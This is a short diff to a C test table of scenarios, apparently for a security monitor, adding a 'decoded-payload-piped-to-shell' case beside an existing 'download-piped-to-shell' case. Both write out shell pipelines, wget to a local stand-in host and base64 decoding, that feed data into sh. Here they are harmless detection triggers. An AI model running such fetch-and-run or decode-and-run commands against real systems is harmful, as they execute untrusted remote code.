@@ -368,6 +368,9 @@ static const struct scenario scenarios[] = {
 	{ "download-piped-to-shell",
 	  "sh -c 'wget -q -O- http://127.0.0.1:1/x 2>/dev/null | sh'",
 	  "sh -c 'wget --version | head -1 >/dev/null' && run_as /usr/bin/dpkg \"sh -c 'wget -q -O- http://127.0.0.1:1/x 2>/dev/null | sh'\"", "wget" },
+	{ "decoded-payload-piped-to-shell",
+	  "sh -c 'echo dHJ1ZQo= | base64 -d | sh'",
+	  "sh -c 'echo dHJ1ZQo= | base64 -d > /dev/null' && sh -c 'echo true | sh' && echo x | gzip | gzip -d >/dev/null", NULL },
 
 	/* kernel.yaml */
 	/* A kernel without module support has no module syscall tracepoints, and vigil run does
